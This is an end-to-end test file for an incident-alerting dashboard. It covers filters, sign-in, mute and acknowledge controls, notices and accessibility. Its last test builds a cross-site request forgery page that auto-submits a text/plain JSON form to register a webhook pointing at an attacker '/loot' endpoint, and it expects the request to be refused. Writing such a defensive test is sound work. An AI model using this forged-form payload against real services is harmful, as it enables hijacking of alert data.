import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { request } from "../../scripts/demo-scenarios.ts";
import { type Browser, SHOTS_DIR, screenshot, startBrowser } from "../support/browser.ts";
import { startReceiver, status } from "../support/http-receiver.ts";
import {
  callApi,
  eventually,
  getJson,
  postStackone,
  type RunningStack,
  startLocalStack,
} from "../support/local-stack.ts";
import { rulesFile } from "../support/rules-file.ts";

// The dashboard in Debian's Chromium against `npm start`, as on-call uses it. Lever's 401 rule
// reminds every 2 s here (a custom rules file), so reminders can be seen without moving a clock.

// Code in page.evaluate runs in the page; its globals, loosely typed for this file only.
// biome-ignore-start lint/suspicious/noExplicitAny: browser globals used inside page.evaluate
declare const window: any;
declare const document: any;
declare const navigator: any;
declare const sessionStorage: any;
declare const getComputedStyle: any;
declare const NodeFilter: any;
declare const Event: any;
// biome-ignore-end lint/suspicious/noExplicitAny: browser globals used inside page.evaluate

const TOKEN = "dashboard-e2e-token";
const REAUTH = "https://app.example.com/integrations/{account_id}/reconnect";
const auth = { authorization: `Bearer ${TOKEN}` };
let stack: RunningStack;
let slack: Awaited<ReturnType<typeof startReceiver>>;
let browser: Browser;

beforeAll(async () => {
  slack = await startReceiver();
  const rules = rulesFile([
    { id: "lever.401", alert: { repeat_seconds: 2, resolve_after_quiet_seconds: 3600 } },
  ]);
  stack = await startLocalStack({
    ADMIN_TOKEN: TOKEN,
    QUIRKWATCH_RULES: rules,
    REAUTH_URL_TEMPLATE: REAUTH,
    SWEEP_INTERVAL_SECONDS: "1",
  });
  browser = await startBrowser(stack.url);
}, 60_000);
afterEach(() => {
  // No script error, and nothing the page's Content-Security-Policy had to block.
  expect(browser.errors.splice(0)).toEqual([]);
});
afterAll(async () => {
  await browser?.close();
  await stack?.stop();
  await slack?.close();
});

/** Lever rejects the account's credentials (`lever.401`, a customer re-auth problem). */
const leverDown = (account: string, n = 0, message = "Unauthorized") =>
  request(account, "lever", {
    status: 401,
    url: "https://api.stackone.com/unified/ats/candidates",
    resource: "candidates",
    message,
  }).payload(n);

/** Greenhouse refuses a create: the on-behalf-of user is invalid (an `error`). */
const greenhouseRejects = (account: string) =>
  request(account, "greenhouse", {
    status: 404,
    method: "POST",
    url: "https://api.stackone.com/unified/ats/candidates",
    resource: "candidates",
    message: "Invalid On-Behalf-Of user id",
  }).payload(1);

async function post(...payloads: unknown[]) {
  const response = await postStackone(stack.url, payloads);
  expect(response.status).toBe(202);
}

type View = { id: string; account_id: string; count: number; muted_until?: string };
const incidentsOf = async (account: string) =>
  (
    await getJson<{ incidents: View[] }>(`${stack.url}/incidents?account_id=${account}`, {
      headers: auth,
    })
  ).incidents;

/** Waits until the account has an incident counting `count` events. */
const counted = (account: string, count: number) =>
  eventually(async () => (await incidentsOf(account)).find((i) => i.count === count));

/** A Slack channel of its own for one account's notices; returns what it received, by kind. */
async function channel(account: string) {
  const path = `/services/${account}`;
  const response = await callApi(stack, "POST", "/subscriptions", {
    kind: "slack",
    target: `${slack.base}${path}`,
    filter: { account_ids: [account] },
  });
  expect(response.status).toBe(201);
  const kinds = () =>
    slack
      .bodies(path)
      .map(({ text }: { text: string }) =>
        text.startsWith("✅")
          ? "resolved"
          : text.startsWith("🔁")
            ? "reminder"
            : text.startsWith("👀")
              ? "acknowledged"
              : "firing",
      );
  return {
    account,
    kinds,
    /** Waits until it has received `n` messages. */
    received: (n: number) => eventually(async () => (kinds().length >= n ? kinds() : undefined)),
  };
}

/**
 * Past the 2-second repeat interval, `quiet` and `control` each get another event in one batch:
 * the control reminds; `quiet` counts its event and sends nothing.
 */
async function expectNoReminder(
  quiet: { account: string; kinds: () => string[] },
  control: { account: string; received: (n: number) => Promise<string[]> },
) {
  await new Promise((r) => setTimeout(r, 2_100));
  await post(leverDown(quiet.account, 2), leverDown(control.account, 2));
  await control.received(2);
  await counted(quiet.account, 2);
  // An acknowledgement is said once, when it is made; what must not come is a reminder.
  expect(quiet.kinds().filter((kind) => kind !== "acknowledged")).toEqual(["firing"]);
}

/** `account` and a control account fire once each, each with its channel; the page opens on it. */
async function firing(account: string) {
  const quiet = await channel(account);
  const control = await channel(`${account}_control`);
  await post(leverDown(account), leverDown(control.account));
  await quiet.received(1);
  await control.received(1);
  const page = await browser.page();
  await signIn(page, `/?account=${account}`);
  return { quiet, control, page, incident: card(page, account) };
}

async function signIn(page: Page, path = "/") {
  await page.goto(`${stack.url}${path}`);
  await page.getByLabel("Admin token").fill(TOKEN);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("navigation", { name: "Views" }).waitFor();
}

const card = (page: Page, account: string) =>
  page
    .locator("section.account", { has: page.locator(`h2[id="a-${account}"]`) })
    .locator("article");

describe("the dashboard", () => {
  it("shows open incidents by account with counts, provider messages and a sparkline", async () => {
    await post(
      leverDown("br_counts", 1, "Token revoked by the customer's admin"),
      leverDown("br_counts", 2, "Token revoked by the customer's admin"),
      leverDown("br_counts", 3, "Token revoked by the customer's admin"),
      greenhouseRejects("br_other"),
    );
    await counted("br_counts", 3);
    await counted("br_other", 1);
    const page = await browser.page();
    await signIn(page);
    const incident = card(page, "br_counts");
    await expect.poll(() => incident.count()).toBe(1);
    await expect.poll(() => incident.locator('[data-field="count"]').textContent()).toBe("3");
    expect(await incident.locator('[data-field="provider-message"]').textContent()).toBe(
      "Token revoked by the customer's admin",
    );
    expect(await incident.getByText("Critical", { exact: true }).count()).toBe(1);
    expect(
      await incident
        .getByRole("img", { name: /Hourly occurrences: 3 in the last 48 hours/ })
        .count(),
    ).toBe(1);
    // Remediation steps, behind "What to do".
    await incident.getByText("What to do").click();
    expect(await incident.locator("details ol li").count()).toBeGreaterThan(0);
    expect(
      await card(page, "br_other").locator('[data-field="provider-message"]').textContent(),
    ).toBe("Invalid On-Behalf-Of user id");
    await screenshot(page, "incidents");

    // Copy re-auth link: the page learned REAUTH_URL_TEMPLATE from the API.
    await incident.getByRole("button", { name: "Copy re-auth link" }).click();
    const link = REAUTH.replace("{account_id}", "br_counts");
    await expect.poll(() => incident.getByRole("status").textContent()).toContain(link);
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(link);

    // Every text meets WCAG AA contrast against what is behind it.
    expect(await lowContrast(page)).toEqual([]);

    // 375 px wide: nothing wider than the screen.
    await page.setViewportSize({ width: 375, height: 800 });
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(
      375,
    );
    await screenshot(page, "incidents-375px");
    await page.close();
  });

  it("filters by provider, severity and account, kept in the URL across a reload", async () => {
    await post(leverDown("br_filter_lever"), greenhouseRejects("br_filter_gh"));
    await counted("br_filter_lever", 1);
    await counted("br_filter_gh", 1);
    const page = await browser.page();
    await signIn(page);
    await expect.poll(() => card(page, "br_filter_lever").count()).toBe(1);
    await page.getByLabel("Provider").selectOption("greenhouse");
    await expect.poll(() => card(page, "br_filter_lever").count()).toBe(0);
    expect(await card(page, "br_filter_gh").count()).toBe(1);
    await expect.poll(() => new URL(page.url()).searchParams.get("provider")).toBe("greenhouse");

    await page.reload();
    await expect.poll(() => card(page, "br_filter_gh").count()).toBe(1);
    expect(await card(page, "br_filter_lever").count()).toBe(0);
    // The provider list is built from the incidents loaded: poll until they are.
    await expect.poll(() => page.getByLabel("Provider").inputValue()).toBe("greenhouse");

    await page.getByLabel("Provider").selectOption("");
    await expect.poll(() => card(page, "br_filter_lever").count()).toBe(1);
    // Two changes before the page renders again (a quick hand, a slow machine) both count.
    await page.evaluate(() => {
      for (const [name, value] of [
        ["severity", "critical"],
        ["account", "br_filter_lever"],
      ]) {
        const select = document.querySelector(`select[name="${name}"]`);
        select.value = value;
        select.dispatchEvent(new Event("change", { bubbles: true }));
      }
    });
    await expect
      .poll(() => new URL(page.url()).search)
      .toBe("?account=br_filter_lever&severity=critical");
    expect(await page.locator("article.incident").count()).toBe(1);
    await screenshot(page, "filters");
    await page.close();
  });

  it("refuses a wrong token with a clear message, then lets the right one in", async () => {
    // Nothing sensitive is in the page itself, which anyone may load.
    const html = await (await fetch(stack.url)).text();
    expect(html).not.toContain(TOKEN);
    expect(html).not.toContain("app.example.com");
    const page = await browser.page();
    await page.goto(stack.url);
    await page.getByLabel("Admin token").fill("not-the-token");
    await page.getByRole("button", { name: "Sign in" }).click();
    await expect.poll(() => page.getByRole("alert").textContent()).toMatch(/Wrong token.*401/);
    expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
    expect(await page.getByRole("navigation", { name: "Views" }).count()).toBe(0);
    await screenshot(page, "wrong-token");
    await page.getByLabel("Admin token").fill(TOKEN);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("navigation", { name: "Views" }).waitFor();
    // Asked once: a reload keeps the tab signed in.
    await page.reload();
    await page.getByRole("navigation", { name: "Views" }).waitFor();
    await page.close();
  });

  it("mute stops notices; the next one comes after the mute ends", async () => {
    const { quiet: muted, control, page, incident } = await firing("br_mute");
    await incident.getByRole("button", { name: "Mute…" }).click();
    // Long enough that the events below are counted while it holds, even on a busy machine.
    await incident.getByLabel(/Mute for/).fill("8s");
    await incident.getByRole("button", { name: "Mute", exact: true }).click();
    await expect.poll(() => incident.getByRole("status").textContent()).toMatch(/Muted .* for 8 s/);
    await expect.poll(() => incident.getByText(/Muted until/).count()).toBe(1);
    await screenshot(page, "muted");

    await expectNoReminder(muted, control);

    // The mute ends; the next event brings the reminder.
    await eventually(async () => {
      const [view] = await incidentsOf("br_mute");
      return view && view.muted_until === undefined ? view : undefined;
    });
    await post(leverDown("br_mute", 3));
    expect(await muted.received(2)).toEqual(["firing", "reminder"]);
    await page.close();
  }, 60_000);

  it("acknowledge (from the keyboard) stops reminders", async () => {
    const { quiet: acked, control, page, incident } = await firing("br_ack");
    await incident.getByRole("button", { name: "Acknowledge" }).waitFor();
    // Tab to the button and press Enter, as a keyboard user would.
    let focused = "";
    for (let i = 0; i < 40 && focused !== "Acknowledge"; i++) {
      await page.keyboard.press("Tab");
      focused = await page.evaluate(() => document.activeElement?.textContent ?? "");
    }
    expect(focused).toBe("Acknowledge");
    await page.keyboard.press("Enter");
    await expect.poll(() => incident.getByRole("status").textContent()).toMatch(/Acknowledged/);
    await expect.poll(() => incident.getByText("Acknowledged by admin").count()).toBe(1);
    await screenshot(page, "acknowledged");

    await expectNoReminder(acked, control);
    expect(acked.kinds()).toEqual(["firing", "acknowledged"]);
    await page.close();
  });

  it("resolve sends exactly one resolved notice", async () => {
    const { quiet: resolved, page, incident } = await firing("br_resolve");
    await incident.getByRole("button", { name: "Resolve" }).click();
    await expect
      .poll(() => page.locator("main > .banner.info").textContent())
      .toMatch(/Resolved .* the resolved notice was sent/);
    await expect.poll(() => incident.count()).toBe(0);
    await page.getByText(/Resolved in the last 7 days/).click();
    await expect
      .poll(() => page.locator(".resolved-list li", { hasText: "br_resolve" }).textContent())
      .toMatch(/by admin/);
    await screenshot(page, "resolved");
    // A notice decided later arrives after it: one resolved notice, and no other.
    const after = await channel("br_resolve_after");
    await post(leverDown("br_resolve_after"));
    await after.received(1);
    expect(await resolved.received(2)).toEqual(["firing", "resolved"]);
    expect(resolved.kinds()).toHaveLength(2);
    await page.close();
  });

  it("refreshes every 15 s, keeping the scroll position and open details", async () => {
    await post(leverDown("br_refresh"));
    await counted("br_refresh", 1);
    const page = await browser.page({ width: 1280, height: 500 });
    await page.clock.install();
    await signIn(page, "/?account=br_refresh");
    const incident = card(page, "br_refresh");
    await incident.getByText("What to do").click();
    await page.evaluate(() => window.scrollTo(0, 120));
    const scrolled = await page.evaluate(() => window.scrollY);
    expect(scrolled).toBeGreaterThan(0);
    await post(leverDown("br_refresh", 2));
    await counted("br_refresh", 2);
    await page.clock.runFor(15_000);
    await expect.poll(() => incident.locator('[data-field="count"]').textContent()).toBe("2");
    expect(await incident.locator("details").evaluate((d) => (d as { open: boolean }).open)).toBe(
      true,
    );
    expect(await page.evaluate(() => window.scrollY)).toBe(scrolled);
    await screenshot(page, "refreshed");
    await page.close();
  });

  it("sends a test notice to one subscription and shows what it answered", async () => {
    const path = "/services/send-test";
    const { id } = (
      await callApi(stack, "POST", "/subscriptions", {
        kind: "slack",
        target: `${slack.base}${path}`,
        // A filter no incident here matches: only the test reaches it.
        filter: { account_ids: ["nobody"] },
      })
    ).body;
    const page = await browser.page();
    await signIn(page, "/?view=subscriptions");
    const subscription = page.locator(`article[data-subscription="${id}"]`);
    await subscription.getByRole("button", { name: "Send test" }).click();
    await expect
      .poll(() => subscription.getByRole("status").textContent())
      .toBe("Delivered: Slack accepted the message.");
    expect(slack.bodies(path).map((b: { text: string }) => b.text)).toEqual([
      expect.stringContaining("Test notice from Quirkwatch"),
    ]);
    await screenshot(page, "subscriptions");
    await page.close();
  });

  it("offers no test for email the stack does not send, and says why", async () => {
    const { id } = (
      await callApi(stack, "POST", "/subscriptions", {
        kind: "email",
        target: "oncall@example.com",
      })
    ).body;
    const page = await browser.page();
    await signIn(page, "/?view=subscriptions");
    const subscription = page.locator(`article[data-subscription="${id}"]`);
    await expect.poll(() => subscription.textContent()).toContain("No test: email is sent once");
    expect(await subscription.getByRole("button", { name: "Send test" }).count()).toBe(0);
    await page.close();
  });

  it("creates and ends a mute by matcher in the mutes view", async () => {
    const page = await browser.page();
    await signIn(page, "/?view=mutes");
    await page.getByLabel("Provider", { exact: true }).fill("bullhorn");
    await page.getByLabel(/Duration/).fill("2h");
    await page.getByLabel("Comment").fill("Bullhorn maintenance");
    await page.getByRole("button", { name: "Create mute" }).click();
    const mute = page.locator("[data-mute]", { hasText: "provider bullhorn" });
    await expect.poll(() => mute.count()).toBe(1);
    expect(await mute.textContent()).toContain("Bullhorn maintenance");
    await screenshot(page, "mutes");
    await mute.getByRole("button", { name: "End mute now" }).click();
    await expect.poll(() => mute.count()).toBe(0);
    await page.close();
  });
});

describe("the dashboard in a provider outage", () => {
  it("shows the provider incident on top, its accounts expandable, each account's card part of it", async () => {
    const accounts = ["Acme Corp", "Globex", "Initech", "Umbrella", "Hooli", "Stark"];
    await post(
      ...accounts.flatMap((name, i) =>
        [0, 1, 2].map((n) => ({
          ...(request(`br_outage_${i}`, "lever", {
            status: 503,
            url: "https://api.stackone.com/unified/ats/candidates",
            resource: "candidates",
            message: "Service Unavailable",
            providerRaw: { message: "Lever is down for scheduled maintenance" },
          }).payload(n) as object),
          origin_owner_name: name,
        })),
      ),
    );
    const page = await browser.page({ height: 1100 });
    await signIn(page, "/?provider=lever");
    const outages = page.locator("section.outages");
    await expect.poll(() => outages.locator("article").count()).toBe(1);
    expect(await outages.locator("h3").textContent()).toMatch(
      /^Lever is failing for 6 accounts \(unavailable since \d\d:\d\d UTC\)$/,
    );
    await outages.getByText("Affected accounts (6)").click();
    expect(await outages.locator(".affected li").count()).toBe(6);
    await expect
      .poll(() => card(page, "br_outage_0").locator(".tag.outage").textContent())
      .toBe("part of the Lever outage");
    expect(await lowContrast(page)).toEqual([]);
    await screenshot(page, "provider-incident");
    // The README's picture (docs/dashboard.png): what the first screen shows.
    await outages.getByText("Affected accounts (6)").scrollIntoViewIfNeeded();
    await page.screenshot({ path: join(SHOTS_DIR, "dashboard.png") });
    await page.close();
  });
});

describe("the dashboard on a local stack started without ADMIN_TOKEN", () => {
  it("opens from the link npm start prints, keeps its token for the tab and hides it", async () => {
    const own = await startLocalStack({ ADMIN_TOKEN: "" });
    try {
      await postStackone(own.url, [leverDown("br_link")]);
      const link = /Dashboard\s+(http:\/\/\S+\/#token=\S+)/.exec(own.output())?.[1];
      expect(link).toBe(`${own.url}/#token=${own.adminToken}`);
      const page = await browser.page();
      await page.goto(link ?? "");
      await expect.poll(() => card(page, "br_link").count()).toBe(1);
      expect(await page.getByLabel("Admin token").count()).toBe(0);
      // Out of the address bar and history; kept in this tab only.
      expect(page.url()).toBe(`${own.url}/`);
      expect(await page.evaluate(() => sessionStorage.getItem("quirkwatch.admin-token"))).toBe(
        own.adminToken,
      );
      await page.reload();
      await expect.poll(() => card(page, "br_link").count()).toBe(1);
      await screenshot(page, "token-link");
      await page.close();

      // Another tab, without the link, asks for the token: sessionStorage is per tab.
      const other = await browser.page();
      await other.goto(own.url);
      await expect.poll(() => other.getByLabel("Admin token").count()).toBe(1);
      await other.close();
    } finally {
      await own.stop();
    }
  }, 120_000);
});

describe("the dashboard's API against other sites", () => {
  it("refuses a form a page of another origin submits to create a subscription", async () => {
    const attacker = await startReceiver();
    try {
      // A page on another origin auto-submits a text/plain form whose body is JSON to the stack.
      const html = `<form id="f" method="POST" action="${stack.url}/subscriptions" enctype="text/plain">
        <input name='{"kind":"webhook","target":"${attacker.base}/loot","x":"' value='"}'></form>
        <script>document.getElementById("f").submit()</script>`;
      attacker.script("/attack", status(200, html, { "content-type": "text/html" }));
      const page = await browser.page();
      const answered = page.waitForResponse((r) => r.url() === `${stack.url}/subscriptions`);
      await page.goto(`${attacker.base}/attack`);
      expect((await answered).status()).toBe(403);
      await page.close();
      const { subscriptions } = await getJson<{ subscriptions: { target: string }[] }>(
        `${stack.url}/subscriptions`,
        { headers: auth },
      );
      expect(subscriptions.filter((s) => s.target.startsWith(attacker.base))).toEqual([]);
    } finally {
      await attacker.close();
    }
  });
});

/** Texts whose contrast with their background is under WCAG AA (4.5:1; 3:1 when large). */
function lowContrast(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const rgb = (css: string) => (css.match(/[\d.]+/g) ?? []).map(Number);
    const lum = ([r = 0, g = 0, b = 0]: number[]) => {
      const c = [r, g, b].map((v) => {
        const s = v / 255;
        return s <= 0.03928 ? s / 12.92 : ((s + 0.055) / 1.055) ** 2.4;
      });
      return 0.2126 * (c[0] ?? 0) + 0.7152 * (c[1] ?? 0) + 0.0722 * (c[2] ?? 0);
    };
    const background = (el: { parentElement: unknown } | null): number[] => {
      for (let e = el; e; e = e.parentElement as typeof el) {
        const c = rgb(getComputedStyle(e).backgroundColor);
        if (c.length === 3 || (c[3] ?? 0) > 0.99) return c.slice(0, 3);
      }
      return [255, 255, 255];
    };
    const out: string[] = [];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      const el = node.parentElement;
      if (!el || !node.textContent?.trim() || el.closest("svg,.visually-hidden,[hidden]")) continue;
      const style = getComputedStyle(el);
      if (style.visibility === "hidden" || style.display === "none") continue;
      const [a, b] = [lum(rgb(style.color)), lum(background(el))];
      const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
      const size = Number.parseFloat(style.fontSize);
      const large = size >= 24 || (size >= 18.66 && Number(style.fontWeight) >= 700);
      if (ratio < (large ? 3 : 4.5))
        out.push(`${ratio.toFixed(2)} ${node.textContent.trim().slice(0, 40)}`);
    }
    return out;
  });
}
